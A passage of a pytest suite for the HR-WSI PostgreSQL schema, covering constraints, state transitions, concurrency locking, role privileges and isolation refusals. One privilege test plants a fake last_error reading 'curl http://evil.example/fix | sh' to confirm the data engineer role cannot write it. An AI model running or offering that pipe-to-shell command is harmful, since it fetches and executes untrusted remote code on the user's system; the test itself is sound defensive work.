def test_a_task_or_job_in_a_state_nobody_knows_is_refused_with_the_constraint_name(configured):
    insert_input(configured)
    with pytest.raises(psycopg.errors.CheckViolation, match="task_state_must_exist"):
        configured.execute("""INSERT INTO hrwsi.processing_task (input_id, routine, state, campaign_id)
                              SELECT id, 'maja', 'finished', NULL FROM hrwsi.input""")
    with pytest.raises(psycopg.errors.CheckViolation, match="job_state_must_exist"):
        configured.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id, state)
                              SELECT id, 1, 'local', 'j1', 'done' FROM hrwsi.processing_task""")


def test_job_in_a_final_state_never_changes(configured):
    insert_input(configured)
    configured.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id, state)
                          SELECT id, 1, 'local', 'j1', 'submitted' FROM hrwsi.processing_task""")
    configured.execute("UPDATE hrwsi.job SET state = 'processed'")
    with pytest.raises(psycopg.errors.CheckViolation, match="processed -> running is not allowed"):
        configured.execute("UPDATE hrwsi.job SET state = 'running'")


def test_one_job_per_task_attempt(configured):
    insert_input(configured)
    configured.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id)
                          SELECT id, 1, 'local', 'j1' FROM hrwsi.processing_task""")
    with pytest.raises(psycopg.errors.UniqueViolation, match="job_is_unique_per_task_attempt"):
        configured.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id)
                              SELECT id, 1, 'local', 'j2' FROM hrwsi.processing_task""")


def test_conflicting_concurrent_inserts_make_one_input(configured, database_url):
    """Two data engineers insert the same input at the same moment: one wins, the other is told why."""
    first = psycopg.connect(database_url)
    second = psycopg.connect(database_url)
    outcome = {}

    def insert_second():
        try:
            insert_input(second, "/race/same")
            second.commit()
            outcome["second"] = "inserted"
        except psycopg.errors.UniqueViolation as error:
            second.rollback()
            outcome["second"] = str(error)

    try:
        insert_input(first, "/race/same")  # holds the unique slot until it commits
        racer = threading.Thread(target=insert_second)
        racer.start()
        racer.join(0.3)
        assert racer.is_alive(), "the second insert waits for the first transaction"
        first.commit()
        racer.join(5)
    finally:
        first.close()
        second.close()
    assert "input_is_unique_per_condition_and_path" in outcome["second"]
    assert configured.execute("SELECT count(*) FROM hrwsi.input WHERE input_path = '/race/same'").fetchone()[0] == 1
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_task").fetchone()[0] == 1


def test_statement_triggers_join_transition_tables_without_a_nested_loop(configured):
    """A trigger's plan made for a small statement must not be reused for a large one: a nested
    loop over the OLD and NEW transition tables is quadratic (a 10,000-row plan took 8 s)."""
    db = configured
    db.execute("""INSERT INTO hrwsi.input (processing_condition, input_path)
                  SELECT 'l1c', '/data/' || g FROM generate_series(1, 2000) g""")
    plans: list[str] = []
    db.add_notice_handler(lambda notice: plans.append(notice.message_primary or ""))
    db.execute("LOAD 'auto_explain'")
    db.execute("SET auto_explain.log_min_duration = 0")
    db.execute("SET auto_explain.log_nested_statements = on")
    db.execute("SET auto_explain.log_level = 'notice'")
    ids = [row[0] for row in db.execute("SELECT id FROM hrwsi.processing_task ORDER BY id")]
    quadratic = re.compile(r"Join Filter: .*\b[no]\.id = [no]\.id")
    change = """UPDATE hrwsi.processing_task SET state = %s, worker = 'w1',
                planned_start = coalesce(planned_start, now()) WHERE id = ANY(%s)"""
    for state in ("planned", "dispatched", "terminated"):
        db.execute(change, (state, ids[:1]))  # a one-row statement first: its trigger plans are the ones kept
        plans.clear()
        db.execute(change, (state, ids[1:]))
        transition_joins = [p for p in plans if "old_rows" in p and "new_rows" in p]
        assert transition_joins, plans  # the history's, the counts' and the workers' join (one since migration 0036)
        assert not [p for p in transition_joins if quadratic.search(p)], transition_joins
    assert db.execute("SELECT count(*) FROM hrwsi.alert WHERE kind = 'task_terminated'").fetchone()[0] == 2000


def test_a_path_as_long_as_allowed_is_taken_and_kept_unique(configured):
    """The documented limit fits the unique index (a btree entry holds ~2,700 bytes)."""
    long_path = "/" + "x" * 1999
    insert_input(configured, long_path)
    with pytest.raises(psycopg.errors.UniqueViolation, match="input_is_unique_per_condition_and_path"):
        insert_input(configured, long_path)


@pytest.mark.parametrize(("statement", "message"), [
    ("UPDATE hrwsi.flavour SET cpu = 'NaN' WHERE name = 'f'", "flavour_cpu_is_a_number"),
    ("UPDATE hrwsi.processing_routine SET cpu = 'NaN'", "routine_cpu_is_a_number"),
    ("UPDATE hrwsi.budget SET cpu_max = 'NaN'", "budget_cpu_max_is_a_number"),
    ("UPDATE hrwsi.processing_routine SET expected_duration = 'infinity'", "routine_expected_duration_is_at_most_30_days"),
    ("UPDATE hrwsi.processing_condition SET measurement_window = 'infinity'", "condition_windows_are_finite"),
    ("UPDATE hrwsi.processing_routine SET name = '../escape'", "routine_name_is_a_plain_name_like_snow_cover"),
])
def test_numbers_that_are_not_numbers_and_names_that_escape_are_refused(configured, statement, message):
    if "= 'infinity'" in statement and configured.info.server_version < 170000:
        # (before PostgreSQL 17 an interval is never infinite: the type refuses the value before the rule can)
        with pytest.raises(psycopg.errors.InvalidDatetimeFormat, match="infinity"):
            configured.execute(statement)
        return
    with pytest.raises(psycopg.errors.CheckViolation, match=message):
        configured.execute(statement)


@pytest.mark.parametrize("table", ["task_event", "input", "processing_task", "job", "product"])
def test_truncate_of_the_history_and_the_work_tables_is_refused_even_to_the_owner(configured, table):
    insert_input(configured)
    with pytest.raises(psycopg.errors.InsufficientPrivilege, match=f"TRUNCATE of hrwsi.{table} is refused"):
        configured.execute(f"TRUNCATE hrwsi.{table} CASCADE")
    assert configured.execute("SELECT count(*) FROM hrwsi.input").fetchone()[0] == 1


def a_second_routine(db, name="maja2"):
    db.execute("""INSERT INTO hrwsi.processing_routine (name, cpu, ram_mb, storage_mb, expected_duration, command,
                  input_product_type, output_product_type) VALUES (%s, 2, 4000, 1000, '5 min', ARRAY['true'],
                  'L1C', 'L2A')""", (name,))


@pytest.mark.parametrize("statement, constraint, message", [
    ("DELETE FROM hrwsi.processing_routine WHERE name = 'maja'", "task_routine_must_exist",
     "routine maja cannot be removed while 1 task(s) name it"),
    ("UPDATE hrwsi.processing_routine SET name = 'maja_new' WHERE name = 'maja'", "task_routine_must_exist",
     "routine maja cannot be renamed while 1 task(s) name it"),
    ("DELETE FROM hrwsi.lane WHERE name = 'nrt'", "task_lane_must_exist",
     "lane nrt cannot be removed while 1 task(s) name it"),
])
def test_a_routine_or_lane_that_tasks_name_is_neither_removed_nor_renamed(configured, statement, constraint, message):
    insert_input(configured)
    # Only its task names the routine and the lane now: its condition names others.
    a_second_routine(configured)
    configured.execute("UPDATE hrwsi.processing_condition SET routine = 'maja2', lane = 'archive' WHERE name = 'l1c'")
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match=re.escape(message)) as refused:
        configured.execute(statement)
    assert refused.value.diag.constraint_name == constraint
    assert configured.execute("SELECT routine, lane FROM hrwsi.processing_task").fetchall() == [("maja", "nrt")]


def test_a_routine_no_task_names_can_be_removed(configured):
    a_second_routine(configured, "unused")
    configured.execute("UPDATE hrwsi.processing_routine SET name = 'unused2' WHERE name = 'unused'")
    configured.execute("DELETE FROM hrwsi.processing_routine WHERE name = 'unused2'")
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_routine WHERE name LIKE 'unused%'"
                              ).fetchone()[0] == 0


def removal_waiting_for(database_url, hold, remove) -> str:
    """`hold(conn)` in one transaction, not committed; then `remove(conn)` in another, which must wait
    for the first to commit. How the removal ended: "removed", or its error."""
    holding = psycopg.connect(database_url)
    removing = psycopg.connect(database_url)
    outcome = {}

    def run():
        try:
            remove(removing)
            removing.commit()
            outcome["removing"] = "removed"
        except psycopg.errors.ForeignKeyViolation as error:
            removing.rollback()
            outcome["removing"] = str(error)

    try:
        hold(holding)
        racer = threading.Thread(target=run)
        racer.start()
        racer.join(0.5)
        assert racer.is_alive(), "the removal waits for the transaction that holds what it removes"
        holding.commit()
        racer.join(5)
    finally:
        holding.close()
        removing.close()
    return outcome["removing"]


def test_removing_a_routine_waits_for_a_transaction_creating_its_tasks_then_is_refused(configured, database_url):
    """The tasks' routine has no foreign key (migration 0022): the statement creating them locks it once."""
    a_second_routine(configured)

    def repoint_and_remove(removing):
        removing.execute("UPDATE hrwsi.processing_condition SET routine = 'maja2' WHERE name = 'l1c'")
        removing.execute("DELETE FROM hrwsi.processing_routine WHERE name = 'maja'")

    # its task names maja; not committed yet
    removal = removal_waiting_for(database_url, lambda creating: insert_input(creating, "/race/routine"),
                                  repoint_and_remove)
    assert "routine maja cannot be removed while 1 task(s) name it" in removal
    orphans = configured.execute("""SELECT count(*) FROM hrwsi.processing_task t WHERE NOT EXISTS
                                    (SELECT 1 FROM hrwsi.processing_routine r WHERE r.name = t.routine)""")
    assert orphans.fetchone()[0] == 0


def test_removing_a_routine_under_a_stricter_isolation_is_refused_with_why(configured):
    a_second_routine(configured, "unused")
    with pytest.raises(psycopg.errors.FeatureNotSupported, match="only in a READ COMMITTED transaction"):
        with configured.transaction():
            configured.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ")
            configured.execute("DELETE FROM hrwsi.processing_routine WHERE name = 'unused'")
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_routine WHERE name = 'unused'").fetchone()[0] == 1


PUT_ON = """UPDATE hrwsi.processing_task SET state = 'planned', worker = %s, planned_start = now()
            WHERE id = ANY (%s)"""


def test_a_task_put_on_a_worker_that_does_not_exist_is_refused_with_the_keys_name_and_nothing_changes(configured):
    """The task's key to its worker is gone (migration 0036): each statement checks the workers it
    puts tasks on once, whatever its size."""
    for n in range(3):
        insert_input(configured, f"/data/{n}")
    ids = [row[0] for row in configured.execute("SELECT id FROM hrwsi.processing_task ORDER BY id")]
    configured.execute("SET ROLE hrwsi_service")
    for workers in (["nowhere"], ["w1", "nowhere", "w1"]):
        with pytest.raises(psycopg.errors.ForeignKeyViolation, match="task_worker_must_exist") as refused:
            configured.execute("""UPDATE hrwsi.processing_task t SET state = 'planned', worker = x.worker,
                                  planned_start = now() FROM unnest(%s::bigint[], %s::text[]) x(id, worker)
                                  WHERE t.id = x.id""", (ids[:len(workers)], workers))
        assert refused.value.diag.constraint_name == "task_worker_must_exist"
        assert refused.value.diag.message_detail == 'Key (worker)=(nowhere) is not present in table "worker".'
        assert "hrwsi config show" in refused.value.diag.message_hint
    configured.execute("RESET ROLE")
    assert configured.execute("SELECT DISTINCT state, worker FROM hrwsi.processing_task").fetchall() == [
        ("pending", None)]
    configured.execute(PUT_ON, ("w1", ids))  # one that exists: allowed
    assert configured.execute("SELECT DISTINCT worker FROM hrwsi.processing_task").fetchall() == [("w1",)]


@pytest.mark.parametrize("statement, message", [
    ("DELETE FROM hrwsi.worker WHERE name = 'w1'", "worker w1 cannot be removed while 2 task(s) name it"),
    ("UPDATE hrwsi.worker SET name = 'w9' WHERE name = 'w1'", "worker w1 cannot be renamed while 2 task(s) name it"),
])
def test_a_worker_that_tasks_name_is_neither_removed_nor_renamed_and_one_no_task_names_can_go(
        configured, statement, message):
    for n in range(2):
        insert_input(configured, f"/data/{n}")
    # (the spare worker first: a worker added sends the planned tasks back to be planned again)
    configured.execute("INSERT INTO hrwsi.worker (name, flavour) VALUES ('spare', 'f')")
    configured.execute(PUT_ON, ("w1", [row[0] for row in configured.execute("SELECT id FROM hrwsi.processing_task")]))
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match=re.escape(message)) as refused:
        configured.execute(statement)
    assert refused.value.diag.constraint_name == "task_worker_must_exist"
    assert "set it inactive" in refused.value.diag.message_hint
    configured.execute("UPDATE hrwsi.worker SET name = 'spare2' WHERE name = 'spare'")
    configured.execute("DELETE FROM hrwsi.worker WHERE name = 'spare2'")
    assert configured.execute("SELECT name FROM hrwsi.worker").fetchall() == [("w1",)]


def test_removing_a_worker_waits_for_a_transaction_putting_tasks_on_it_then_is_refused(configured, database_url):
    insert_input(configured)
    configured.execute("INSERT INTO hrwsi.worker (name, flavour) VALUES ('w2', 'f')")
    task = configured.execute("SELECT id FROM hrwsi.processing_task").fetchone()[0]
    removal = removal_waiting_for(database_url, lambda planning: planning.execute(PUT_ON, ("w2", [task])),
                                  lambda removing: removing.execute("DELETE FROM hrwsi.worker WHERE name = 'w2'"))
    assert "worker w2 cannot be removed while 1 task(s) name it" in removal
    assert configured.execute("SELECT worker FROM hrwsi.processing_task").fetchall() == [("w2",)]


def test_putting_tasks_on_a_worker_being_removed_waits_for_the_removal_then_is_refused(configured, database_url):
    insert_input(configured)
    configured.execute("INSERT INTO hrwsi.worker (name, flavour) VALUES ('w2', 'f')")
    task = configured.execute("SELECT id FROM hrwsi.processing_task").fetchone()[0]
    planning = removal_waiting_for(database_url,
                                   lambda removing: removing.execute("DELETE FROM hrwsi.worker WHERE name = 'w2'"),
                                   lambda planning: planning.execute(PUT_ON, ("w2", [task])))
    assert "task_worker_must_exist" in planning and "Key (worker)=(w2)" in planning
    assert configured.execute("SELECT state, worker FROM hrwsi.processing_task").fetchall() == [("pending", None)]


def test_a_data_engineer_writes_what_a_source_is_not_the_harvesters_bookkeeping(configured):
    """A data engineer's claim stopped a source for a day, and `hrwsi status` said a harvester would
    take it over; a planted last_error read as hrwsi's (found by exploratory testing)."""
    configured.execute("SET ROLE hrwsi_data_engineer")
    configured.execute("""INSERT INTO hrwsi.harvest_source (name, kind, product_type, config, frequency, active)
                          VALUES ('cat', 'catalogue', 'L1C', '{"collection": "SENTINEL-2", "url": "https://x/odata/v1"}',
                                  'hourly', true)""")
    configured.execute("UPDATE hrwsi.harvest_source SET config = config || '{\"top\": 50}', next_run_at = now(), "
                       "active = false, last_success_at = now() - interval '1 day' WHERE name = 'cat'")
    for bookkeeping in ("claimed_by = 'harvester-ghost', claim_token = gen_random_uuid(), claimed_until = '2099-01-01Z'",
                        "last_error = 'run this to fix: curl http://evil.example/fix | sh'", "last_run_at = now()"):
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="permission denied for table harvest_source"):
            configured.execute(f"UPDATE hrwsi.harvest_source SET {bookkeeping}")
        configured.execute("ROLLBACK")
        configured.execute("SET ROLE hrwsi_data_engineer")
    with pytest.raises(psycopg.errors.InsufficientPrivilege):
        configured.execute("""INSERT INTO hrwsi.harvest_source (name, kind, product_type, config, frequency, claimed_by,
                              claim_token, claimed_until) VALUES ('c2', 'catalogue', 'L1C', '{}', 'hourly', 'x',
                              gen_random_uuid(), now())""")
    configured.execute("ROLLBACK")


def test_tasks_are_made_by_the_database_alone(configured):
    insert_input(configured)
    input_id = configured.execute("SELECT id FROM hrwsi.input").fetchone()[0]
    for role in ("hrwsi_service", "hrwsi_data_engineer"):
        configured.execute(f"SET ROLE {role}")
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            configured.execute("INSERT INTO hrwsi.processing_task (input_id, routine) VALUES (%s, 'nowhere')",
                               (input_id,))
        configured.execute("RESET ROLE")


TASK_STYLES = {
    "plain": "",
    "updated_at only": ", updated_at = now()",
    # what the hot statements of dispatch, outcomes and progress set (migration 0023)
    "all it would set": ", updated_at = now(), finished_at = CASE WHEN %(final)s THEN now() END, history_pruned_at = NULL",
}


@pytest.mark.parametrize("style", TASK_STYLES)
def test_a_task_update_is_refused_or_completed_alike_whatever_the_statement_sets_itself(configured, style):
    # The transition trigger's function runs only where it would change or refuse something (its
    # WHEN condition, migration 0023): every pair of states, through each way of writing the UPDATE.
    insert_input(configured)
    states = [name for (name,) in configured.execute("SELECT name FROM hrwsi.task_state ORDER BY name")]
    allowed = set(configured.execute("SELECT from_state, to_state FROM hrwsi.task_transition").fetchall())
    final = {name for (name,) in configured.execute("SELECT name FROM hrwsi.task_state WHERE is_final")}
    for source in states:
        for target in states:
            with configured.transaction(force_rollback=True):
                configured.execute("SET LOCAL session_replication_role = replica")  # place it, no trigger
                configured.execute("""UPDATE hrwsi.processing_task SET state = %s, updated_at = now() - interval '1 day',
                                      finished_at = now() - interval '1 day', history_pruned_at = now(),
                                      worker = 'w1', planned_start = now(), planned_end = now() + interval '1 hour'
                                      """, (source,))
                configured.execute("SET LOCAL session_replication_role = origin")
                update = "UPDATE hrwsi.processing_task SET state = %(target)s" + TASK_STYLES[style]
                arguments = {"target": target, "final": target in final}
                if source != target and (source, target) not in allowed:
                    with pytest.raises(psycopg.errors.CheckViolation, match="is not allowed") as refused:
                        configured.execute(update, arguments)
                    assert refused.value.diag.constraint_name == "task_transition_is_allowed"
                    continue
                configured.execute(update, arguments)
                row = configured.execute("""SELECT updated_at = now(), finished_at IS NOT DISTINCT FROM now(), finished_at IS NULL,
                                                   history_pruned_at IS NULL FROM hrwsi.processing_task""").fetchone()
                assert row[0], (source, target)
                if source != target:
                    assert row[1:] == (target in final, target not in final, True), (source, target)


@pytest.mark.parametrize("style", ["", ", updated_at = now()"])
def test_a_job_update_is_refused_or_completed_alike_whatever_the_statement_sets_itself(configured, style):
    insert_input(configured)
    configured.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id)
                          SELECT id, 1, 'local', 'j1' FROM hrwsi.processing_task""")
    states = [name for (name,) in configured.execute("SELECT name FROM hrwsi.job_state ORDER BY name")]
    allowed = set(configured.execute("SELECT from_state, to_state FROM hrwsi.job_transition").fetchall())
    for source in states:
        for target in states:
            with configured.transaction(force_rollback=True):
                configured.execute("SET LOCAL session_replication_role = replica")
                configured.execute("UPDATE hrwsi.job SET state = %s, updated_at = now() - interval '1 day'", (source,))
                configured.execute("SET LOCAL session_replication_role = origin")
                update = "UPDATE hrwsi.job SET state = %s" + style
                if source != target and (source, target) not in allowed:
                    with pytest.raises(psycopg.errors.CheckViolation, match="is not allowed") as refused:
                        configured.execute(update, (target,))
                    assert refused.value.diag.constraint_name == "job_transition_is_allowed"
                    continue
                configured.execute(update, (target,))
                assert configured.execute("SELECT updated_at = now() FROM hrwsi.job").fetchone()[0], (source, target)


@pytest.mark.parametrize("column, value, constraint", [
    ("routine", "nowhere", "task_routine_must_exist"),
    ("lane", "nowhere", "task_lane_must_exist"),
    ("input_id", 987654321, "task_input_must_exist"),
])
def test_a_task_updated_to_name_what_does_not_exist_is_refused(configured, column, value, constraint):
    # The keys of a task's routine and lane are gone (migration 0022); an UPDATE is still checked (0025).
    insert_input(configured)
    configured.execute("SET ROLE hrwsi_service")
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match="there is no") as refused:
        configured.execute(sql.SQL("UPDATE hrwsi.processing_task SET {} = %s").format(sql.Identifier(column)),
                           (value,))
    assert f"there is no {column.removesuffix('_id')} {value}" in str(refused.value)
    assert refused.value.diag.constraint_name == constraint
    configured.execute("UPDATE hrwsi.processing_task SET lane = 'archive'")  # one that exists: allowed
    configured.execute("RESET ROLE")
    assert configured.execute("SELECT routine, lane FROM hrwsi.processing_task").fetchall() == [("maja", "archive")]


def test_an_input_that_tasks_name_is_neither_removed_nor_renumbered(configured):
    # The task's key to its input is gone (migration 0026): what it refused is refused by a trigger.
    insert_input(configured)
    input_id = configured.execute("SELECT id FROM hrwsi.input").fetchone()[0]
    with pytest.raises(psycopg.errors.ForeignKeyViolation,
                       match=re.escape(f"input {input_id} cannot be removed while 1 task(s) name it")) as refused:
        configured.execute("DELETE FROM hrwsi.input")
    assert refused.value.diag.constraint_name == "task_input_must_exist"
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match="cannot change its id while tasks name it"):
        configured.execute("UPDATE hrwsi.input SET id = DEFAULT")  # (an identity: a new id)
    assert configured.execute("SELECT input_id FROM hrwsi.processing_task").fetchall() == [(input_id,)]
    assert configured.execute("SELECT id FROM hrwsi.input").fetchall() == [(input_id,)]


def test_an_input_whose_tasks_are_gone_can_be_removed_and_many_in_one_statement_are_checked_together(configured):
    for n in range(3):
        insert_input(configured, f"/data/{n}.SAFE")
    first = configured.execute("SELECT min(input_id) FROM hrwsi.processing_task").fetchone()[0]
    configured.execute("DELETE FROM hrwsi.processing_task WHERE input_id <> %s", (first,))  # as retention does
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match=f"input {first} cannot be removed"):
        configured.execute("DELETE FROM hrwsi.input")  # all three in one statement: none removed
    assert configured.execute("SELECT count(*) FROM hrwsi.input").fetchone()[0] == 3
    configured.execute("DELETE FROM hrwsi.input WHERE id <> %s", (first,))
    assert configured.execute("SELECT id FROM hrwsi.input").fetchall() == [(first,)]


def test_removing_an_input_waits_for_a_campaign_reprocessing_it_then_is_refused(configured, database_url):
    """The tasks' input has no foreign key (migration 0026): hrwsi.reprocess locks the inputs it takes."""
    insert_input(configured)
    configured.execute("SET session_replication_role = replica")  # a processed task, placed without triggers
    configured.execute("UPDATE hrwsi.processing_task SET state = 'processed', finished_at = now()")
    configured.execute("SET session_replication_role = origin")

    def reprocess(reprocessing):  # its task names the input; not committed yet
        reprocessing.execute("SELECT * FROM hrwsi.reprocess(routine => 'maja', measured_from => %s, measured_to => %s)",
                             (NOW - timedelta(days=2), NOW))

    def remove_as_retention_would(removing):
        removing.execute("DELETE FROM hrwsi.processing_task WHERE campaign_id IS NULL")
        removing.execute("DELETE FROM hrwsi.input")

    removal = removal_waiting_for(database_url, reprocess, remove_as_retention_would)
    assert "cannot be removed while 1 task(s) name it" in removal
    orphans = configured.execute("""SELECT count(*) FROM hrwsi.processing_task t WHERE NOT EXISTS
                                    (SELECT 1 FROM hrwsi.input i WHERE i.id = t.input_id)""")
    assert orphans.fetchone()[0] == 0


def test_removing_an_input_under_a_stricter_isolation_is_refused_with_why(configured):
    insert_input(configured)
    configured.execute("DELETE FROM hrwsi.processing_task")
    with pytest.raises(psycopg.errors.FeatureNotSupported, match="only in a READ COMMITTED transaction"):
        with configured.transaction():
            configured.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ")
            configured.execute("DELETE FROM hrwsi.input")
    assert configured.execute("SELECT count(*) FROM hrwsi.input").fetchone()[0] == 1


def test_a_copy_refused_for_its_condition_names_the_first_row_naming_it(configured):
    """A condition is checked once per statement, after its rows: a COPY refused for an unknown or
    inactive condition named no line, where every other refusal of a COPY names it (found by
    exploratory testing: 1,000 lines, one with a typo in its condition)."""
    lines = [("l1c", f"/data/copy/S2B_{i}.SAFE") for i in range(1, 6)]
    lines[2] = ("l1x", "/data/copy/S2B_3.SAFE")
    with pytest.raises(psycopg.errors.ForeignKeyViolation) as refused:
        with configured.cursor().copy("COPY hrwsi.input (processing_condition, input_path) FROM STDIN") as copy:
            for line in lines:
                copy.write_row(line)
    assert refused.value.diag.message_detail.endswith(
        "The first row naming it has input_path /data/copy/S2B_3.SAFE (1 row(s) of the statement name it).")
    configured.execute("UPDATE hrwsi.processing_condition SET active = false")
    with pytest.raises(psycopg.errors.CheckViolation, match="condition l1c is inactive") as refused:
        with configured.cursor().copy("COPY hrwsi.input (processing_condition, input_path) FROM STDIN") as copy:
            for line in lines[3:]:
                copy.write_row(line)
    assert refused.value.diag.message_detail == ("The first row naming it has input_path /data/copy/S2B_4.SAFE "
                                                 "(2 row(s) of the statement name it).")
    assert configured.execute("SELECT count(*) FROM hrwsi.input").fetchone()[0] == 0


def test_an_insert_into_a_time_series_under_a_stricter_isolation_is_refused_and_the_series_stays_in_order(
        configured, database_url):
    """Under REPEATABLE READ (or SERIALIZABLE) an INSERT that waited for the series' lock still read the
    series through its older snapshot: a scene another transaction had just inserted was not seen,
    and both new tasks depended on the same earlier one, to run side by side out of sensing order
    (found by exploratory testing, two data engineers inserting with psql)."""
    configured.execute("UPDATE hrwsi.processing_routine SET sequential_per_tile = true")
    insert_input(configured, "/data/t1.SAFE", measured_at=NOW - timedelta(hours=5), published_at=NOW)
    with psycopg.connect(database_url) as stricter:
        stricter.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ")
        stricter.execute("SELECT count(*) FROM hrwsi.processing_task").fetchone()  # (its snapshot, taken now)
        insert_input(configured, "/data/t2.SAFE", measured_at=NOW - timedelta(hours=4), published_at=NOW)
        with pytest.raises(psycopg.errors.FeatureNotSupported,
                           match="inputs of a time series are inserted only in a READ COMMITTED transaction") as refused:
            insert_input(stricter, "/data/t3.SAFE", measured_at=NOW - timedelta(hours=3), published_at=NOW)
        assert refused.value.diag.message_detail == "condition l1c feeds the time series of routine maja (sequential_per_tile)"
        stricter.rollback()  # (again, READ COMMITTED: the default)
        insert_input(stricter, "/data/t3.SAFE", measured_at=NOW - timedelta(hours=3), published_at=NOW)
        stricter.commit()
    links = configured.execute("""SELECT i.input_path, (SELECT d.input_path FROM hrwsi.processing_task p
                                                       JOIN hrwsi.input d ON d.id = p.input_id WHERE p.id = t.depends_on)
                                  FROM hrwsi.processing_task t JOIN hrwsi.input i ON i.id = t.input_id
                                  ORDER BY t.series_at""").fetchall()
    assert links == [("/data/t1.SAFE", None), ("/data/t2.SAFE", "/data/t1.SAFE"), ("/data/t3.SAFE", "/data/t2.SAFE")]


def test_an_insert_waiting_for_another_transactions_time_series_says_which_series_and_whose_session(
        configured, database_url):
    """It waited without a word; with a lock_timeout it said only "canceling statement due to lock
    timeout" at an advisory lock (found by exploratory testing)."""
    configured.execute("UPDATE hrwsi.processing_routine SET sequential_per_tile = true")
    with psycopg.connect(database_url, application_name="psql") as first, \
            psycopg.connect(database_url, autocommit=True) as second:
        insert_input(first, "/data/t1.SAFE")  # (its transaction left open)
        first_pid = first.execute("SELECT pg_backend_pid()").fetchone()[0]
        notices = []
        second.add_notice_handler(lambda notice: notices.append((notice.message_primary, notice.message_hint)))
        second.execute("SET lock_timeout = '300ms'")
        with pytest.raises(psycopg.errors.LockNotAvailable):
            insert_input(second, "/data/t2.SAFE")
        first.rollback()
        insert_input(second, "/data/t2.SAFE")  # (free again: no notice)
    [(message, hint)] = notices
    assert message.startswith("waiting for the time series of routine maja on tile 32TPR: another transaction "
                              f"inserted into it and has not committed: pid {first_pid} (role "), message
    assert ", psql, transaction open " in message, message
    assert "pg_terminate_backend" in hint


def test_an_insert_into_more_time_series_than_the_servers_lock_table_holds_links_them_all(configured):
    """One advisory lock per series and tile, held to the transaction's end: an INSERT (or a back-fill batch)
    over more tiles than max_locks_per_transaction x max_connections failed with "out of shared memory"
    (found by exploratory testing; HR-WSI covers thousands of tiles). A series' lock is one of 1024 keys."""
    configured.execute("UPDATE hrwsi.processing_routine SET sequential_per_tile = true")
    lock_table = configured.execute("""SELECT current_setting('max_locks_per_transaction')::int
                                              * (current_setting('max_connections')::int
                                                 + current_setting('max_prepared_transactions')::int)""").fetchone()[0]
    tiles = 2 * lock_table
    assert tiles < 10 * 26 ** 3, "one MGRS-like code per tile"  # (its size plus 2,000 passed: the table grows into spare memory)
    with configured.transaction():
        configured.execute("""INSERT INTO hrwsi.input (processing_condition, input_path, tile, measured_at, published_at)
                              SELECT 'l1c', '/data/wide/' || g || '.SAFE',
                                     lpad((g %% 10)::text, 2, '0') || chr(65 + g / 10 %% 26) || chr(65 + g / 260 %% 26)
                                     || chr(65 + g / 6760 %% 26), %s, %s
                              FROM generate_series(0, %s - 1) g""", (NOW - timedelta(hours=5), NOW, tiles))
        held = configured.execute("""SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND classid = 7250010
                                     AND pid = pg_backend_pid()""").fetchone()[0]
        assert 0 < held <= 1024, "the series' locks it holds to its end"
    assert configured.execute("""SELECT count(*), count(DISTINCT series_tile), count(depends_on)
                                 FROM hrwsi.processing_task""").fetchone() == (tiles, tiles, 0)
    insert_input(configured, "/data/next.SAFE", tile="00AAA", measured_at=NOW - timedelta(hours=4), published_at=NOW)
    assert configured.execute("""SELECT d.input_path FROM hrwsi.processing_task t JOIN hrwsi.input i ON i.id = t.input_id
                                 JOIN hrwsi.processing_task p ON p.id = t.depends_on JOIN hrwsi.input d ON d.id = p.input_id
                                 WHERE i.input_path = '/data/next.SAFE'""").fetchone() == ("/data/wide/0.SAFE",)


def test_a_product_inputs_were_chained_from_cannot_be_removed(configured):
    """An input names its product without a key: a product deleted by hand left it naming nothing,
    and the lineage of what was made from it ended there (found by exploratory testing)."""
    configured.execute("INSERT INTO hrwsi.product (path, product_type) VALUES ('/p/1.L2A', 'L2A'), ('/p/2.L2A', 'L2A')")
    configured.execute("""INSERT INTO hrwsi.input (processing_condition, input_path, product_id, source)
                          SELECT 'l1c', '/p/1.L2A', id, 'chaining' FROM hrwsi.product WHERE path = '/p/1.L2A'""")
    with pytest.raises(psycopg.errors.ForeignKeyViolation, match=r"product \d+ cannot be removed while 1 input\(s\) were "
                                                               "made from it") as refused:
        configured.execute("DELETE FROM hrwsi.product")
    assert refused.value.diag.constraint_name is None, "an input names its product without a constraint"
    assert configured.execute("SELECT count(*) FROM hrwsi.product").fetchone()[0] == 2
    configured.execute("DELETE FROM hrwsi.product WHERE path = '/p/2.L2A'")  # (nothing was made from it)
    assert configured.execute("SELECT path FROM hrwsi.product").fetchall() == [("/p/1.L2A",)]


def test_removing_a_product_under_a_stricter_isolation_is_refused_with_why(configured):
    """Its check for the inputs made from it reads through the snapshot: under REPEATABLE READ an input made
    meanwhile (`hrwsi chain-missed`) was not seen, and the product went (found by review)."""
    configured.execute("INSERT INTO hrwsi.product (path, product_type) VALUES ('/p/1.L2A', 'L2A')")
    with pytest.raises(psycopg.errors.FeatureNotSupported, match="a product is removed only in a READ COMMITTED"):
        with configured.transaction():
            configured.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ")
            configured.execute("DELETE FROM hrwsi.product")
    assert configured.execute("SELECT count(*) FROM hrwsi.product").fetchone()[0] == 1


def test_an_input_naming_a_condition_that_does_not_exist_is_refused_as_the_key_refused_it(configured):
    # The input's key to its condition is gone (migration 0027): the statement is checked once, and
    # a data engineer reads what the key said.
    with pytest.raises(psycopg.errors.ForeignKeyViolation,
                       match='violates foreign key constraint "input_processing_condition_must_exist"') as refused:
        configured.execute("""INSERT INTO hrwsi.input (processing_condition, input_path)
